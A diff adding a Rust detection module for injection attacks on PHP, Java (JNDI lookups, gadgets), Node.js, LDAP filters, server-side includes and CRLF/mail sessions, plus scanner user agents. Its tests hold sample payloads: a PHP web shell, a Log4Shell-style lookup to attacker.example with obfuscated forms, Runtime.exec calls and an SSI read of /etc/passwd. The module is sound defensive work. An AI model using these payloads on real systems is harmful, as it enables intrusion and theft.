@@ -1,0 +1,618 @@
+//! Injection into other interpreters and protocols: PHP code, Java (JNDI lookups,
+//! runtime and expression-language gadgets), JavaScript runtimes (prototype pollution,
+//! Node.js internals), LDAP filters, server-side includes, CR/LF injection into headers and
+//! mail or IMAP/SMTP sessions, and the user agents of attack tools.
+//!
+//! Each rule looks for syntax the target interpreter needs (an opening tag, a call with a
+//! code-like argument, a filter operator after a broken parenthesis), not for payload
+//! strings. Every check is a forward scan of the lowercased value: linear time.
+
+use crate::sql::Hit;
+
+/// PHP functions that run commands or code, read or write files, or decode hidden code.
+const PHP_FUNCTIONS: &[&str] = &[
+    "system",
+    "exec",
+    "shell_exec",
+    "passthru",
+    "popen",
+    "proc_open",
+    "pcntl_exec",
+    "eval",
+    "assert",
+    "create_function",
+    "call_user_func",
+    "call_user_func_array",
+    "base64_decode",
+    "str_rot13",
+    "gzinflate",
+    "gzuncompress",
+    "gzdecode",
+    "file_put_contents",
+    "file_get_contents",
+    "fopen",
+    "fwrite",
+    "fputs",
+    "readfile",
+    "include",
+    "include_once",
+    "require",
+    "require_once",
+    "phpinfo",
+    "unserialize",
+    "move_uploaded_file",
+    "highlight_file",
+    "show_source",
+    "preg_replace",
+    "array_map",
+    "ini_set",
+    "putenv",
+    "symlink",
+    "posix_kill",
+    "mail",
+    "var_dump",
+    "print_r",
+    "print",
+    "md5",
+    "chr",
+];
+
+/// PHP's request and environment arrays.
+const PHP_GLOBALS: &[&str] = &[
+    "$_get",
+    "$_post",
+    "$_request",
+    "$_cookie",
+    "$_server",
+    "$_files",
+    "$_env",
+    "$_session",
+    "$globals",
+    "$http_raw_post_data",
+];
+
+/// Java classes and expressions that reach the runtime, reflection or known
+/// deserialization gadgets.
+const JAVA_MARKERS: &[&str] = &[
+    "java.lang.runtime",
+    "getruntime()",
+    "java.lang.processbuilder",
+    "processbuilder(",
+    "java.lang.reflect",
+    "java.lang.system",
+    "java.lang.class",
+    "#_memberaccess",
+    "@java.lang.",
+    "t(java.",
+    "java.beans.xmldecoder",
+    "invokertransformer",
+    "org.apache.commons.collections",
+    "com.sun.org.apache",
+    "javax.script.scriptenginemanager",
+    "javax.naming",
+    "class.module.classloader",
+    ".getclass().forname(",
+    "getdeclaredmethod(",
+    "java.io.fileinputstream",
+    "java.net.url",
+    "new java.",
+];
+
+/// Node.js and JavaScript runtime internals a sandbox escape or code injection reaches for.
+const JS_MARKERS: &[&str] = &[
+    "child_process",
+    "process.mainmodule",
+    "process.binding(",
+    "process.env",
+    "global.process",
+    "require('fs')",
+    "require(\"fs\")",
+    ".constructor.constructor(",
+    "constructor.prototype",
+    "constructor[\"prototype\"]",
+    "constructor['prototype']",
+];
+
+/// Headers an attacker adds by injecting a line break into a response or a mail.
+const INJECTED_HEADERS: &[&str] = &[
+    "set-cookie",
+    "location",
+    "content-length",
+    "content-type",
+    "transfer-encoding",
+    "refresh",
+    "access-control-allow-origin",
+    "x-xss-protection",
+    "bcc",
+    "cc",
+    "to",
+    "from",
+    "reply-to",
+    "subject",
+];
+
+/// SMTP and POP commands that make a line of their own.
+const MAIL_ALONE: &[&str] = &["data", "quit", "rset", "noop", "starttls", "stls", "capa"];
+
+/// SMTP commands with an argument: `RCPT TO:<x>`, `HELO host`.
+const MAIL_WITH_ARGUMENT: &[&str] = &["rcpt to:", "mail from:", "helo ", "ehlo ", "vrfy ", "expn "];
+
+/// IMAP commands, which follow a tag (`A1 FETCH 1`).
+const IMAP_COMMANDS: &[&str] = &[
+    "capability",
+    "login",
+    "select",
+    "examine",
+    "fetch",
+    "store",
+    "logout",
+    "list",
+    "create",
+    "delete",
+    "rename",
+    "append",
+    "uid",
+    "copy",
+    "search",
+    "authenticate",
+    "noop",
+];
+
+/// Security scanners and attack tools, by the names in their user agents.
+const TOOLS: &[&str] = &[
+    "sqlmap",
+    "nikto",
+    "nuclei",
+    "openvas",
+    "nessus",
+    "nmap scripting engine",
+    "masscan",
+    "zgrab",
+    "wpscan",
+    "acunetix",
+    "netsparker",
+    "invicti",
+    "appscan",
+    "w3af",
+    "arachni",
+    "dirbuster",
+    "gobuster",
+    "dirb/",
+    "wfuzz",
+    "fuzz faster u fool",
+    "ffuf",
+    "havij",
+    "commix",
+    "jaeles",
+    "xsstrike",
+    "skipfish",
+    "whatweb",
+    "nettacker",
+    "feroxbuster",
+    "hydra",
+    "zap/",
+    "burp",
+    "paros",
+    "webinspect",
+    "grabber",
+    "bbqsql",
+    "jorgee",
+    "morfeus",
+    "zmeu",
+];
+
+fn push(hits: &mut Vec<Hit>, rule: &'static str, score: u32) {
+    crate::sql::add(hits, Hit { rule, score });
+}
+
+/// Whether `word` occurs in `text` at `at` as a whole word (not inside a longer name).
+fn word_at(text: &str, at: usize, word: &str) -> bool {
+    let before = text[..at].bytes().next_back();
+    let after = text.as_bytes().get(at + word.len()).copied();
+    let inner = |b: u8| b.is_ascii_alphanumeric() || b == b'_';
+    !before.is_some_and(inner) && !after.is_some_and(inner)
+}
+
+/// The first byte after `at` that is not a blank, skipping `/*...*/` comments.
+fn next_code_byte(text: &str, mut at: usize) -> Option<u8> {
+    let bytes = text.as_bytes();
+    loop {
+        while bytes.get(at).is_some_and(|b| b.is_ascii_whitespace()) {
+            at += 1;
+        }
+        if bytes.get(at..at + 2) == Some(b"/*") {
+            at = text[at + 2..]
+                .find("*/")
+                .map_or(bytes.len(), |e| at + 2 + e + 2);
+            continue;
+        }
+        return bytes.get(at).copied();
+    }
+}
+
+/// PHP: opening tags, dangerous functions called with a code-like argument, the request
+/// arrays, and serialized objects.
+pub fn php(value: &str) -> Vec<Hit> {
+    let lower = value.to_ascii_lowercase();
+    let mut hits = Vec::new();
+    if lower.contains("<?php")
+        || lower.contains("<?=")
+        || ["[php]", "[/php]", "[\\php]", "{php}", "{/php}"]
+            .iter()
+            .any(|t| lower.contains(t))
+    {
+        push(&mut hits, "php.open_tag", 5);
+    } else if let Some(p) = lower.find("<?") {
+        // `<?` then code; `<?xml version=...` is markup, `<?xml :echo` is not.
+        let rest = lower[p + 2..].trim_start();
+        let xml_declaration = rest.strip_prefix("xml").is_some_and(|r| {
+            r.trim_start().starts_with("version")
+                || r.trim_start().starts_with("?>")
+                || r.is_empty()
+        });
+        if !xml_declaration && !rest.is_empty() {
+            push(&mut hits, "php.open_tag", 4);
+        }
+    }
+    for name in PHP_FUNCTIONS {
+        let mut from = 0;
+        while let Some(p) = lower[from..].find(name) {
+            let at = from + p;
+            from = at + name.len();
+            if !word_at(&lower, at, name) {
+                continue;
+            }
+            // A call whose argument reads as code: a variable, a string, another call's
+            // result, a backtick, or no argument at all.
+            if next_code_byte(&lower, from) == Some(b'(') {
+                let open = lower[from..].find('(').map_or(from, |o| from + o + 1);
+                let arg = next_code_byte(&lower, open);
+                if matches!(arg, Some(b'$' | b'\'' | b'"' | b')' | b'`'))
+                    || lower[open..]
+                        .trim_start()
+                        .starts_with(|c: char| c.is_ascii_alphabetic())
+                        && lower[open..]
+                            .split(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
+                            .next()
+                            .is_some_and(|w| PHP_FUNCTIONS.contains(&w))
+                {
+                    push(&mut hits, "php.function_call", 5);
+                }
+            }
+        }
+    }
+    if PHP_GLOBALS.iter().any(|g| lower.contains(g)) {
+        push(&mut hits, "php.request_array", 4);
+    }
+    // A serialized object: `O:8:"stdClass":1:{...}`.
+    let bytes = lower.as_bytes();
+    for (i, w) in bytes.windows(2).enumerate() {
+        if w == b"o:" && (i == 0 || !bytes[i - 1].is_ascii_alphanumeric()) {
+            let digits = bytes[i + 2..]
+                .iter()
+                .take_while(|b| b.is_ascii_digit())
+                .count();
+            if digits > 0 && bytes[i + 2 + digits..].starts_with(b":\"") {
+                push(&mut hits, "php.serialized_object", 5);
+                break;
+            }
+        }
+    }
+    hits
+}
+
+/// Java: JNDI lookups (also hidden in nested lookups), the runtime, reflection,
+/// expression-language gadgets and serialized objects.
+pub fn java(value: &str) -> Vec<Hit> {
+    let lower = value.to_ascii_lowercase();
+    let mut hits = Vec::new();
+    // `${jndi:ldap://...}`, also as `${${lower:j}ndi:...}` or `${${::-j}${::-n}di:...}`:
+    // the letters after `${` spell jndi and then a naming protocol.
+    let mut from = 0;
+    while let Some(p) = lower[from..].find("${") {
+        let start = from + p + 2;
+        from = start;
+        let letters: String = lower[start..]
+            .chars()
+            .take(160)
+            .filter(char::is_ascii_alphabetic)
+            .collect();
+        if let Some(j) = letters.find("jndi") {
+            let after = &letters[j + 4..];
+            if ["ldap", "rmi", "dns", "iiop", "corba", "nds", "nis", "http"]
+                .iter()
+                .any(|proto| after.contains(proto))
+            {
+                push(&mut hits, "java.jndi_lookup", 5);
+                break;
+            }
+        }
+    }
+    if JAVA_MARKERS.iter().any(|m| lower.contains(m)) {
+        push(&mut hits, "java.runtime_access", 5);
+    }
+    // Serialized Java objects: the stream magic in hex or base64.
+    if lower.contains("aced0005") || value.contains("rO0AB") {
+        push(&mut hits, "java.serialized_object", 5);
+    }
+    hits
+}
+
+/// JavaScript runtimes: prototype pollution and Node.js internals.
+pub fn javascript(value: &str) -> Vec<Hit> {
+    let lower = value.to_ascii_lowercase();
+    let mut hits = Vec::new();
+    if lower.contains("__proto__") {
+        push(&mut hits, "js.prototype_pollution", 5);
+    }
+    if JS_MARKERS.iter().any(|m| lower.contains(m)) {
+        push(&mut hits, "js.runtime_access", 5);
+    }
+    hits
+}
+
+/// A JSON or query key that pollutes prototypes: `__proto__`, `constructor`, `prototype`.
+pub fn javascript_key(key: &str) -> Vec<Hit> {
+    let lower = key.to_ascii_lowercase();
+    if lower == "__proto__"
+        || lower.contains("[__proto__]")
+        || lower.contains("constructor[prototype]")
+    {
+        vec![Hit {
+            rule: "js.prototype_pollution",
+            score: 5,
+        }]
+    } else {
+        Vec::new()
+    }
+}
+
+/// Whether `s` starts with an LDAP attribute comparison: `name=`, `name~=`, `name>=`,
+/// `name<=`, or an extensible match `name:rule:=`.
+fn ldap_comparison(s: &str) -> bool {
+    let name_len = s
+        .bytes()
+        .take_while(|b| b.is_ascii_alphanumeric() || matches!(b, b'-' | b'.' | b';' | b':'))
+        .count();
+    name_len > 0 && {
+        let rest = &s[name_len..];
+        rest.starts_with('=')
+            || rest.starts_with("~=")
+            || rest.starts_with(">=")
+            || rest.starts_with("<=")
+            || s[..name_len].ends_with(':') && rest.starts_with('=')
+    }
+}
+
+/// LDAP filter injection: a parenthesis broken to add filter terms (`*)(uid=*`,
+/// `admin)(|(a=b)`), filter operators opening nested terms (`(&(`, `(|(`, `(!(`), and
+/// extensible matches (`attr:2.5.13.18:=value`).
+pub fn ldap(value: &str) -> Vec<Hit> {
+    let lower = value.to_ascii_lowercase();
+    let mut score = 0;
+    let compact: String = lower.chars().filter(|c| !c.is_whitespace()).collect();
+    for op in ["(&(", "(|(", "(!("] {
+        if compact.contains(op) {
+            score = score.max(5);
+        }
+    }
+    let mut from = 0;
+    while let Some(p) = compact[from..].find(")(") {
+        let at = from + p + 2;
+        from = at;
+        let rest = compact[at..].trim_start_matches(['&', '|', '!', '(']);
+        if ldap_comparison(rest) {
+            score = score.max(5);
+        }
+    }
+    // The absolute true and false filters after a broken parenthesis: `admin)(&)`.
+    if compact.contains(")(&)") || compact.contains(")(|)") {
+        score = score.max(5);
+    }
+    if compact.contains("*)(") || compact.contains("=*)") && compact.contains(")(") {
+        score = score.max(5);
+    }
+    // An extensible match rule by OID: `userPassword:2.5.13.18:=`.
+    if let Some(p) = compact.find(":=") {
+        let before = &compact[..p];
+        if let Some(colon) = before.rfind(':') {
+            let oid = &before[colon + 1..];
+            if oid.contains('.') && oid.bytes().all(|b| b.is_ascii_digit() || b == b'.') {
+                score = score.max(5);
+            }
+        }
+    }
+    if score > 0 {
+        vec![Hit {
+            rule: "ldap.filter_injection",
+            score,
+        }]
+    } else {
+        Vec::new()
+    }
+}
+
+/// Server-side include directives: `<!--#exec cmd=...-->`, `<!--#include virtual=...-->`.
+pub fn ssi(value: &str) -> Vec<Hit> {
+    let lower = value.to_ascii_lowercase();
+    let mut from = 0;
+    while let Some(p) = lower[from..].find("<!--#") {
+        let at = from + p + 5;
+        from = at;
+        let directive = lower[at..].trim_start();
+        if [
+            "exec", "include", "echo", "config", "fsize", "flastmod", "printenv", "set", "if",
+        ]
+        .iter()
+        .any(|d| directive.starts_with(d))
+        {
+            return vec![Hit {
+                rule: "ssi.directive",
+                score: 5,
+            }];
+        }
+    }
+    Vec::new()
+}
+
+/// A line break followed by a header an attacker wants to set (`\r\nSet-Cookie:`,
+/// `\nBcc:`), or by a mail, IMAP or SMTP command (`\r\nRCPT TO:`, `\r\nA1 FETCH`).
+pub fn crlf(value: &str) -> Vec<Hit> {
+    if !value.contains(['\r', '\n']) {
+        return Vec::new();
+    }
+    let lower = value.to_ascii_lowercase();
+    let mut hits = Vec::new();
+    for line in lower.split(['\r', '\n']).skip(1) {
+        let line = line.trim_start_matches([' ', '\t']);
+        if let Some((name, _)) = line.split_once(':')
+            && INJECTED_HEADERS.contains(&name.trim_end())
+        {
+            push(&mut hits, "crlf.header_injection", 5);
+        }
+        let trimmed = line.trim();
+        let words: Vec<&str> = trimmed.split_whitespace().collect();
+        let smtp = MAIL_ALONE.contains(&trimmed)
+            || MAIL_WITH_ARGUMENT.iter().any(|c| trimmed.starts_with(c)) && words.len() <= 4;
+        // IMAP: a tag with a digit, then a command (`V100 CAPABILITY`, `A1 FETCH 4791`).
+        let imap = words.len() >= 2
+            && words.len() <= 6
+            && words[0].bytes().all(|b| b.is_ascii_alphanumeric())
+            && words[0].bytes().any(|b| b.is_ascii_digit())
+            && IMAP_COMMANDS.contains(&words[1]);
+        if smtp || imap {
+            push(&mut hits, "crlf.mail_command", 5);
+        }
+    }
+    hits
+}
+
+/// The user agent of a known attack tool or vulnerability scanner.
+pub fn tool_user_agent(value: &str) -> Vec<Hit> {
+    let lower = value.to_ascii_lowercase();
+    if TOOLS.iter().any(|t| lower.contains(t)) {
+        vec![Hit {
+            rule: "scanner.user_agent",
+            score: 5,
+        }]
+    } else {
+        Vec::new()
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::total;
+
+    fn score(f: fn(&str) -> Vec<Hit>, value: &str) -> u32 {
+        total(&f(value))
+    }
+
+    #[test]
+    fn php_code_scores_high_and_prose_about_php_does_not() {
+        for attack in [
+            "<?php echo shell_exec($_GET['c']); ?>",
+            "<?= `id` ?>",
+            "<? system('id'); ?>",
+            "{php}echo 1;{/php}",
+            "x;system('cat /etc/passwd');",
+            "eval(base64_decode('ZWNobyAxOw=='))",
+            "phpinfo()",
+            "O:8:\"stdClass\":1:{s:1:\"a\";i:1;}",
+            "file_put_contents(\"x.php\", $data)",
+        ] {
+            assert!(score(php, attack) >= 5, "{attack:?}: {:?}", php(attack));
+        }
+        for text in [
+            "PHP is a popular language",
+            "the system(s) we run",
+            "please include (if possible) a receipt",
+            "<?xml version=\"1.0\"?><a/>",
+            "eval (the evaluation) starts monday",
+            "Status: O:ok",
+        ] {
+            assert!(score(php, text) < 5, "{text:?}: {:?}", php(text));
+        }
+    }
+
+    #[test]
+    fn java_lookups_and_gadgets_score_high() {
+        for attack in [
+            "${jndi:ldap://attacker.example/a}",
+            "${${lower:j}ndi:${lower:r}mi://x/y}",
+            "${${::-j}${::-n}${::-d}${::-i}:dns://x}",
+            "%{(#_memberAccess['allowStaticMethodAccess']=true)}",
+            "T(java.lang.Runtime).getRuntime().exec('id')",
+            "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ",
+        ] {
+            assert!(score(java, attack) >= 5, "{attack:?}: {:?}", java(attack));
+        }
+        for text in ["${HOME}/bin", "I like Java and coffee", "price: ${price}"] {
+            assert!(score(java, text) < 5, "{text:?}");
+        }
+    }
+
+    #[test]
+    fn prototype_pollution_and_node_internals() {
+        assert!(score(javascript, "{\"__proto__\":{\"isAdmin\":true}}") >= 5);
+        assert!(score(javascript, "require('child_process').exec('id')") >= 5);
+        assert!(score(javascript_key, "__proto__") >= 5);
+        assert!(score(javascript_key, "a[__proto__][admin]") >= 5);
+        assert_eq!(score(javascript, "the constructor of the house"), 0);
+    }
+
+    #[test]
+    fn ldap_filters_broken_open() {
+        for attack in [
+            "*)(uid=*))(|(uid=*",
+            "admin)(&)",
+            "(&(uid=admin)(!(&(1=0)(userPassword=q))))",
+            "*(|(objectclass=*))",
+            "userPassword:2.5.13.18:=123",
+            "x)(cn>=a",
+        ] {
+            assert!(score(ldap, attack) >= 5, "{attack:?}");
+        }
+        for text in [
+            "see (above)(and below)",
+            "f(x)(y) = z",
+            "smile :)(",
+            "version 1.2.3",
+            "a = b",
+        ] {
+            assert!(score(ldap, text) < 5, "{text:?}");
+        }
+    }
+
+    #[test]
+    fn includes_line_breaks_and_tools() {
+        assert!(score(ssi, "<!--#exec cmd=\"ls\" -->") >= 5);
+        assert!(score(ssi, "<!--#include virtual=\"/etc/passwd\"-->") >= 5);
+        assert_eq!(score(ssi, "<!-- # a comment -->"), 0);
+        for attack in [
+            "x\r\nSet-Cookie: a=b",
+            "me@x.example\nBcc: all@y.example",
+            "\r\nV100 CAPABILITY\r\nV101 FETCH 4791",
+            "\r\nQUIT\r\n",
+            "\nRCPT TO: test@evil.com\n",
+        ] {
+            assert!(score(crlf, attack) >= 5, "{attack:?}: {:?}", crlf(attack));
+        }
+        for text in [
+            "Dear Bob,\nthanks for the data you sent.\nRegards",
+            "line one\nline two: details",
+            "Shopping list:\n- milk\n- quit smoking",
+            "Hi,\ndata attached\nuser guide: page 2",
+        ] {
+            assert!(score(crlf, text) < 5, "{text:?}: {:?}", crlf(text));
+        }
+        assert!(score(tool_user_agent, "sqlmap/1.7.4#stable (https://sqlmap.org)") >= 5);
+        assert!(
+            score(
+                tool_user_agent,
+                "Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0"
+            ) == 0
+        );
+    }
+}
